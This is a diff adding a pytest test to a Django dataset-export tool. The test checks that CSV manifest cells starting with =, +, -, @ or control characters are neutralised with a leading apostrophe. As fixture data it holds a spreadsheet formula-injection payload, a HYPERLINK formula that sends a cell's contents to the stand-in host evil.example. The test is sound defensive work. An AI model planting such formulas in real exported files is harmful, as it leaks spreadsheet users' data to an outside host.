@@ -503,6 +503,24 @@ def test_identity_names_become_safe_unique_folders(admin_client_api, tmp_path):
     assert {m["label"] for m in manifest} == set(NASTY_NAMES) | {DISTRACTOR_LABEL}
 
 
+def test_csv_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(admin_client_api, tmp_path):
+    formula_file = '=HYPERLINK("http://evil.example/?leak="&A1,"click").jpg'
+    FaceFactory(identity=IdentityFactory(name="@SUM(1+1)", role="vip", chunk=1), status="verified", split="train",
+                group_key="crop:formula", source_path=f"uploads/{formula_file}")
+    FaceFactory(identity=IdentityFactory(name="-2+3", role="vip", chunk=1), status="verified", split="train",
+                group_key="crop:minus", source_path=formula_file)
+    version = create_version(admin_client_api)
+    (manifest,) = [f for f in build(admin_client_api, version, "csv") if f["name"] == "manifest.csv"]
+    with fetch(admin_client_api, [manifest], tmp_path)["manifest.csv"].open(newline="", encoding="utf-8") as handle:
+        table = list(csv.DictReader(handle))
+    by_name = {row["identity_name"]: row for row in table}
+    assert set(by_name) == {"'@SUM(1+1)", "'-2+3"}
+    assert by_name["'-2+3"]["source_path"] == "'" + formula_file  # the cell starts with ', not =
+    assert by_name["'@SUM(1+1)"]["source_path"] == f"uploads/{formula_file}"  # not at the start: harmless
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row.values())
+    assert by_name["'-2+3"]["face_id"].isdigit()  # numbers are left as they are
+
+
 # --- Command and schema ---------------------------------------------------------------------
 def test_the_export_dataset_command_freezes_and_builds(curated, tmp_path):
     from django.core.management import call_command
